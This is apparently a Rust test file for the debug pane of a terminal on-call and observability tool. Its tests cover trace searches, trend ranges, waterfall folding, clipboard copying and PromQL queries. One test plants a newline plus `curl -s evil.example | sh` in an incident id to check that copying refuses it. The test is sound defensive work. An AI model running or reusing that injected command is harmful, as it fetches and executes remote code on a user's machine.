//! The debug pane's transitions as a responder drives them: `t` from an SLO or an incident,
//! searches that refresh only while the pane is in view, the trends' range, folding, copying,
//! `:trace` and `:promql`, and answers that arrive late.

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, TimeZone, Utc};

use crate::action::Action;
use crate::command::Command;
use crate::event::CommandResult;
use crate::model::{
    Incident, IncidentStatus, QueryAnswer, QuerySeries, Span, Trace, TraceKind, TraceSummary,
};
use crate::slo::{Counts, SliKind, SloSpec, Window, default_tiers, evaluate};
use crate::sources::SourceError;
use crate::sources::explore::{ExploreCommand, ExploreResult};
use crate::state::{DebugFocus, Load, OncallFocus, Overlay, Pane, SloRow, State, TrendRange};
use crate::update::update;

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 21, 3, 12, 0).unwrap()
}

fn slo_row(service: &str) -> SloRow {
    let spec = SloSpec::new(
        service,
        "availability",
        0.999,
        Window::days(30),
        SliKind::Availability,
    );
    let counts = BTreeMap::from([(
        Window::hours(1),
        Counts {
            bad: 300.0,
            total: 12_000.0,
        },
    )]);
    SloRow {
        source: "demo".into(),
        report: evaluate(&spec, &counts, &default_tiers()),
        trend: vec![],
        issues: vec![],
    }
}

fn state() -> State {
    let mut s = State::new(t0(), default_tiers());
    s.slos = vec![slo_row("checkout")];
    s.selected_slo = Some(s.slos[0].key());
    let mut page = Incident::new(
        "demo",
        "PD-7",
        "checkout burning",
        "payments",
        t0() - Duration::minutes(40),
    );
    page.status = IncidentStatus::Triggered;
    s.incidents.insert("demo".into(), vec![page]);
    s.selected_incident = s
        .open_incidents()
        .first()
        .map(|i| crate::state::IncidentKey::of(i));
    s
}

type Searched = (String, TraceKind, Option<(DateTime<Utc>, DateTime<Utc>)>);

fn searches(commands: &[Command]) -> Vec<Searched> {
    commands
        .iter()
        .filter_map(|c| match c {
            Command::SearchTraces(s) => Some((s.service.clone(), s.kind, s.range)),
            _ => None,
        })
        .collect()
}

fn span(id: &str, parent: Option<&str>, start: u64, duration: u64) -> Span {
    Span {
        span_id: id.into(),
        parent_id: parent.map(str::to_string),
        service: "svc".into(),
        operation: id.into(),
        start_offset_us: start,
        duration_us: duration,
        error: false,
        attributes: vec![],
        events: vec![],
    }
}

fn trace(id: &str) -> Trace {
    Trace {
        summary: TraceSummary {
            trace_id: id.into(),
            root_service: "svc".into(),
            root_operation: "root".into(),
            start: t0(),
            duration_us: 100,
            span_count: 4,
            error: false,
        },
        spans: vec![
            span("root", None, 0, 100),
            span("a", Some("root"), 0, 60),
            span("a1", Some("a"), 10, 20),
            span("b", Some("root"), 60, 40),
        ],
    }
}

#[test]
fn t_on_an_slo_searches_its_service_over_the_last_hour() {
    let mut s = state();
    let commands = update(&mut s, Action::TraceService);
    assert_eq!(s.pane, Pane::Debug);
    assert_eq!(s.debug.service.as_deref(), Some("checkout"));
    let window = Some((t0() - Duration::hours(1), t0()));
    assert_eq!(
        searches(&commands),
        [
            ("checkout".to_string(), TraceKind::Slow, window),
            ("checkout".to_string(), TraceKind::Errors, window)
        ]
    );
    assert!(commands.contains(&Command::Explore(ExploreCommand::Dependencies)));
    assert!(commands.iter().any(|c| matches!(
        c,
        Command::Explore(ExploreCommand::Exemplars { service, .. }) if service == "checkout"
    )));
}

#[test]
fn t_on_an_incident_searches_from_before_it_opened() {
    let mut s = state();
    s.pane = Pane::Oncall;
    s.oncall_focus = OncallFocus::Incidents;
    let commands = update(&mut s, Action::TraceService);
    assert_eq!(s.debug.service.as_deref(), Some("payments"));
    let since = t0() - Duration::minutes(40) - Duration::minutes(15);
    assert!(
        searches(&commands)
            .iter()
            .all(|(_, _, range)| *range == Some((since, t0())))
    );
    let investigation = s.debug.investigation.as_ref().unwrap();
    assert_eq!(investigation.label, "incident PD-7");
}

#[test]
fn trace_lists_refresh_only_while_the_pane_is_in_view() {
    let mut s = state();
    update(&mut s, Action::TraceService);
    for kind in [TraceKind::Slow, TraceKind::Errors] {
        update(
            &mut s,
            Action::Completed(Box::new(CommandResult::Traces {
                service: "checkout".into(),
                kind,
                outcome: Ok(vec![]),
            })),
        );
    }
    let later = t0() + Duration::seconds(crate::update::TRACE_REFRESH_SECS);
    assert!(update(&mut s, Action::Tick(later - Duration::seconds(1))).is_empty());
    let refreshed = update(&mut s, Action::Tick(later));
    assert_eq!(searches(&refreshed).len(), 2, "due and in view");
    // Lists already shown stay while the refresh runs.
    assert_eq!(s.debug.slow, Load::Ready(vec![]));

    update(&mut s, Action::ShowExecutive);
    let much_later = later + Duration::minutes(10);
    assert!(
        update(&mut s, Action::Tick(much_later)).is_empty(),
        "not in view"
    );
}

#[test]
fn brackets_change_the_range_and_fetch_trends_beyond_the_polled_hour() {
    let mut s = state();
    update(&mut s, Action::TraceService);
    let commands = update(&mut s, Action::RangeLonger);
    assert_eq!(s.debug.range, TrendRange::SixHours);
    assert_eq!(
        commands,
        [Command::Explore(ExploreCommand::Trends {
            service: "checkout".into(),
            range: Window::hours(6)
        })]
    );
    // An answer for a range no longer chosen is dropped.
    update(&mut s, Action::RangeLonger);
    let stale = ExploreResult::Trends {
        service: "checkout".into(),
        range: Window::hours(6),
        outcome: Err(SourceError::Rejected("nope".into())),
    };
    update(
        &mut s,
        Action::Completed(Box::new(CommandResult::Explore(Box::new(stale)))),
    );
    assert_eq!(s.debug.trends, Load::Loading);
    update(&mut s, Action::RangeShorter);
    assert!(
        update(&mut s, Action::RangeShorter).is_empty(),
        "the hour is polled"
    );
    assert_eq!(s.debug.trends, Load::Idle);
}

#[test]
fn folding_from_the_keyboard_and_left_walking_up_the_tree() {
    let mut s = state();
    s.pane = Pane::Debug;
    s.debug.trace_id = Some("t1".into());
    update(
        &mut s,
        Action::Completed(Box::new(CommandResult::Trace {
            trace_id: "t1".into(),
            outcome: Ok(trace("t1")),
        })),
    );
    assert_eq!(s.debug.waterfall.len(), 4, "laid out on arrival");
    // In the list, right moves into the waterfall.
    update(&mut s, Action::Expand);
    assert_eq!(s.debug.focus, DebugFocus::Waterfall);
    update(&mut s, Action::Down); // a
    update(&mut s, Action::ToggleCollapse);
    assert_eq!(s.debug.waterfall.len(), 3, "a1 folded under a");
    update(&mut s, Action::Down);
    assert_eq!(s.debug.selected_row().unwrap().1.span_id, "b");
    update(&mut s, Action::Collapse); // b is a leaf: up to root
    assert_eq!(s.debug.selected_span, 0);
    update(&mut s, Action::Collapse); // fold root
    assert_eq!(s.debug.waterfall.len(), 1);
    update(&mut s, Action::Collapse); // a folded root: back to the list
    assert_eq!(s.debug.focus, DebugFocus::Traces);
}

#[test]
fn y_copies_what_is_in_front_of_the_responder() {
    let mut s = state();
    let commands = update(&mut s, Action::Copy);
    assert_eq!(
        commands,
        [Command::Copy {
            text: "checkout/availability".into()
        }]
    );
    s.pane = Pane::Oncall;
    assert_eq!(
        update(&mut s, Action::Copy),
        [Command::Copy {
            text: "PD-7".into()
        }]
    );
    assert_eq!(s.flash.as_ref().unwrap().text, "copied incident id PD-7");
    s.pane = Pane::Debug;
    s.debug.trace_id = Some("4bf92f35".into());
    s.debug.focus = DebugFocus::Waterfall;
    assert_eq!(
        update(&mut s, Action::Copy),
        [Command::Copy {
            text: "4bf92f35".into()
        }]
    );
    update(&mut s, Action::CommandLine);
    for c in "promql up".chars() {
        let key = crossterm::event::KeyEvent::from(crossterm::event::KeyCode::Char(c));
        update(&mut s, Action::CommandLineKey(key));
    }
    let enter = crossterm::event::KeyEvent::from(crossterm::event::KeyCode::Enter);
    update(&mut s, Action::CommandLineKey(enter));
    assert_eq!(s.overlay, Some(Overlay::Query));
    assert_eq!(
        update(&mut s, Action::Copy),
        [Command::Copy { text: "up".into() }]
    );
}

#[test]
fn y_refuses_an_id_that_would_act_in_a_shell_and_says_why() {
    let mut s = state();
    s.pane = Pane::Oncall;
    s.incidents.get_mut("demo").unwrap()[0].id = "PD-7\ncurl -s evil.example | sh".into();
    s.selected_incident = s
        .open_incidents()
        .first()
        .map(|i| crate::state::IncidentKey::of(i));
    assert_eq!(update(&mut s, Action::Copy), []);
    let flash = s.flash.as_ref().unwrap();
    assert_eq!(flash.kind, crate::state::FlashKind::Error);
    assert_eq!(
        flash.text,
        "the incident id holds \\n, which a shell would act on when pasted: not copied"
    );
}

#[test]
fn promql_answers_land_in_the_view_that_asked_and_scroll() {
    let mut s = state();
    let commands = crate::update::debug::run_promql(&mut s, "up".into(), Some(Window::hours(1)));
    assert_eq!(
        commands,
        [Command::Explore(ExploreCommand::Promql {
            expr: "up".into(),
            range: Some(Window::hours(1))
        })]
    );
    let series = |job: &str| QuerySeries {
        labels: BTreeMap::from([("job".to_string(), job.to_string())]),
        points: vec![(1.0, 1.0)],
    };
    let other = ExploreResult::Promql {
        expr: "down".into(),
        outcome: Ok(QueryAnswer::default()),
    };
    update(
        &mut s,
        Action::Completed(Box::new(CommandResult::Explore(Box::new(other)))),
    );
    assert_eq!(s.debug.query.as_ref().unwrap().answer, Load::Loading);
    let answer = ExploreResult::Promql {
        expr: "up".into(),
        outcome: Ok(QueryAnswer {
            series: vec![series("a"), series("b")],
            warnings: vec![],
        }),
    };
    update(
        &mut s,
        Action::Completed(Box::new(CommandResult::Explore(Box::new(answer)))),
    );
    update(&mut s, Action::Down);
    update(&mut s, Action::Down);
    assert_eq!(
        s.debug.query.as_ref().unwrap().selected,
        1,
        "clamped to the last series"
    );
    update(&mut s, Action::Back);
    assert_eq!(s.overlay, None);
}

#[test]
fn colon_trace_opens_the_waterfall() {
    let mut s = state();
    let commands = crate::update::debug::open_trace(&mut s, "abc".into());
    assert_eq!(s.pane, Pane::Debug);
    assert_eq!(s.debug.focus, DebugFocus::Waterfall);
    assert_eq!(
        commands,
        [Command::FetchTrace {
            trace_id: "abc".into()
        }]
    );
}
